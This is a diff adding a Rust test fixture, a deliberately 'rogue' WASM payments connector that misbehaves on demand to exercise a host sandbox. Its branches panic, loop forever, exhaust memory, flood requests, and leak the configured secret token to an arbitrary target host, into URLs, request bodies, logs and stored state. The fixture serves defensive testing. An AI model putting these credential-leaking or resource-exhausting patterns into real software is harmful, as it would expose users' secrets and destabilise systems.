@@ -1,0 +1,240 @@
+#![allow(clippy::panic, clippy::unwrap_used, reason = "this connector is here to fail")]
+
+use std::hint::black_box;
+
+use serde_json::Value;
+use wasi_http_client::Client;
+
+use crate::contract::exports::payments::connector::connector::{
+    AccountsPage, BalancesPage, Capability, ConfigField, FetchRequest, FieldKind, Guest, Manifest, PaymentsPage, Task,
+};
+use crate::contract::payments::connector::types::{
+    Account, Error, ErrorDetail, Payment, PaymentScheme, PaymentStatus, PaymentType, Timestamp,
+};
+use crate::contract::payments::connector::{log, state};
+
+struct Rogue;
+
+crate::contract::export!(Rogue with_types_in crate::contract);
+
+/// The config's fields, unchecked.
+struct Config(Value);
+
+impl Config {
+    fn of(request: &FetchRequest) -> Self {
+        Self(serde_json::from_str(&request.config).unwrap())
+    }
+
+    fn get(&self, field: &str) -> &str {
+        self.0[field].as_str().unwrap_or_default()
+    }
+
+    fn url(&self, path: &str) -> String {
+        format!("{}{path}", self.get("endpoint").trim_end_matches('/'))
+    }
+}
+
+impl Guest for Rogue {
+    fn describe() -> Manifest {
+        let task = |name: &str, capability, periodic, parent| Task { name: name.into(), capability, periodic, parent };
+        let field = |name: &str, kind, required| ConfigField {
+            name: name.into(),
+            kind,
+            required,
+            default: None,
+            description: format!("the {name}"),
+        };
+        Manifest {
+            name: "rogue".into(),
+            version: "0.1.0".into(),
+            description: "Breaks one rule at a time.".into(),
+            capabilities: vec![Capability::FetchAccounts, Capability::FetchPayments],
+            workflow: vec![
+                task("fetch-accounts", Capability::FetchAccounts, true, None),
+                task("fetch-payments", Capability::FetchPayments, true, Some(0)),
+            ],
+            config: vec![
+                field("endpoint", FieldKind::Url, true),
+                field("token", FieldKind::Secret, true),
+                field("behaviour", FieldKind::Text, true),
+            ],
+            max_page_size: 100,
+            rate_limits: vec![],
+        }
+    }
+
+    fn check(_config: String) -> Result<(), Error> {
+        Ok(())
+    }
+
+    fn fetch_accounts(_request: FetchRequest) -> Result<AccountsPage, Error> {
+        Ok(AccountsPage { items: vec![account("bad"), account("good")], rejected: vec![], has_more: false })
+    }
+
+    fn fetch_external_accounts(_request: FetchRequest) -> Result<AccountsPage, Error> {
+        Err(unsupported())
+    }
+
+    fn fetch_balances(_request: FetchRequest, _parent: Account) -> Result<BalancesPage, Error> {
+        Err(unsupported())
+    }
+
+    fn fetch_payments(request: FetchRequest, parent: Account) -> Result<PaymentsPage, Error> {
+        if parent.reference == "good" {
+            return Ok(page(vec![payment("fine", "{}")]));
+        }
+        misbehave(&Config::of(&request), &request.config)
+    }
+}
+
+fn misbehave(config: &Config, whole: &str) -> Result<PaymentsPage, Error> {
+    match config.get("behaviour") {
+        "none" => Ok(page(vec![payment("also-fine", "{}")])),
+        "trap" => {
+            eprintln!("about to fail");
+            panic!("the ledger is on fire");
+        }
+        "loop" => loop {
+            black_box(());
+        },
+        "recurse" => {
+            black_box(recurse(0));
+            Ok(page(vec![]))
+        }
+        "memory" => {
+            let mut hoard: Vec<Vec<u8>> = Vec::new();
+            loop {
+                hoard.push(vec![1; 1 << 20]);
+                black_box(&hoard);
+            }
+        }
+        "swallow" => {
+            get(config.get("target"), &[]);
+            Ok(page(vec![]))
+        }
+        "secret-elsewhere" => {
+            get(config.get("target"), &[("authorization", config.get("token"))]);
+            Ok(page(vec![]))
+        }
+        "secret-in-url" => {
+            get(&config.url(&format!("/x?key={}", config.get("token"))), &[]);
+            Ok(page(vec![]))
+        }
+        "secret-in-body" => {
+            let _ = Client::new().post(&config.url("/x")).body(config.get("token").as_bytes()).send();
+            Ok(page(vec![]))
+        }
+        "many-requests" => {
+            for _ in 0..10_000 {
+                get(&config.url("/x"), &[]);
+            }
+            Ok(page(vec![]))
+        }
+        "keep-answer" => keep_answer(config, whole),
+        "big-state" => {
+            state::set(&vec![7; (64 << 10) + 1]);
+            Ok(page(vec![]))
+        }
+        "state-then-trap" => {
+            state::set(b"never to be kept");
+            panic!("after the state");
+        }
+        "state-then-error" => {
+            state::set(b"never to be kept");
+            Err(Error::UpstreamRejected(detail("no")))
+        }
+        "stuck" => {
+            state::set(b"here");
+            Ok(PaymentsPage { has_more: true, ..page(vec![]) })
+        }
+        "bad-amount" => Ok(page(vec![Payment { amount: "12.50".into(), ..payment("p", "{}") }])),
+        "empty-reference" => Ok(page(vec![payment("", "{}")])),
+        "foreign-account" => {
+            Ok(page(vec![Payment { source_account_reference: Some("good".into()), ..payment("p", "{}") }]))
+        }
+        "huge-page" => Ok(page((0..2000).map(|n| payment(&format!("p{n}"), &"x".repeat(64 << 10))).collect())),
+        "unavailable" => Err(Error::Unavailable(detail("try later"))),
+        "limited" => Err(Error::RateLimited(ErrorDetail {
+            retry_after_seconds: config.get("seconds").parse().ok(),
+            ..detail("slow down")
+        })),
+        other => Err(Error::Other(detail(&format!("no behaviour {other:?}")))),
+    }
+}
+
+/// Everything that a connector could do with what it was given and told: log it, keep it, return it.
+fn keep_answer(config: &Config, whole: &str) -> Result<PaymentsPage, Error> {
+    let response = Client::new()
+        .get(&config.url("/echo"))
+        .header("authorization", config.get("token"))
+        .send()
+        .map_err(|e| Error::Unavailable(detail(&e.to_string())))?;
+    let headers = format!("{:?}", response.headers());
+    let body = String::from_utf8_lossy(&response.body().unwrap_or_default()).into_owned();
+    log::write(log::Level::Warn, &format!("{whole} {headers} {body}"));
+    eprintln!("{whole} {headers} {body}");
+    let seen = serde_json::json!({ "config": whole, "headers": headers, "body": body }).to_string();
+    state::set(seen.as_bytes());
+    Ok(page(vec![Payment { metadata: vec![("x/seen".into(), seen.clone())], ..payment("seen", &seen) }]))
+}
+
+fn get(url: &str, headers: &[(&str, &str)]) {
+    let mut request = Client::new().get(url);
+    for (name, value) in headers {
+        request = request.header(*name, *value);
+    }
+    let _ = request.send();
+}
+
+fn recurse(depth: u64) -> u64 {
+    if black_box(depth) == u64::MAX { 0 } else { recurse(depth + 1) + black_box(1) }
+}
+
+fn page(items: Vec<Payment>) -> PaymentsPage {
+    PaymentsPage { items, withdrawn: vec![], rejected: vec![], has_more: false }
+}
+
+fn account(reference: &str) -> Account {
+    Account {
+        reference: reference.into(),
+        name: None,
+        default_asset: Some("EUR/2".into()),
+        created_at: None,
+        updated_at: None,
+        metadata: vec![],
+        raw: format!("{{\"id\":\"{reference}\"}}"),
+    }
+}
+
+fn payment(reference: &str, raw: &str) -> Payment {
+    let at = Timestamp { seconds: 1_780_000_000, nanoseconds: 0 };
+    Payment {
+        reference: reference.into(),
+        created_at: at,
+        updated_at: at,
+        payment_type: PaymentType::Payout,
+        status: PaymentStatus::Succeeded,
+        scheme: PaymentScheme::Unknown,
+        amount: "100".into(),
+        asset: "EUR/2".into(),
+        source_account_reference: None,
+        destination_account_reference: None,
+        counterparty: None,
+        metadata: vec![],
+        raw: raw.into(),
+    }
+}
+
+fn unsupported() -> Error {
+    Error::Unsupported(detail("this connector has no such capability"))
+}
+
+fn detail(message: &str) -> ErrorDetail {
+    ErrorDetail {
+        message: message.into(),
+        http_status: None,
+        provider_code: None,
+        request_id: None,
+        retry_after_seconds: None,
+    }
+}
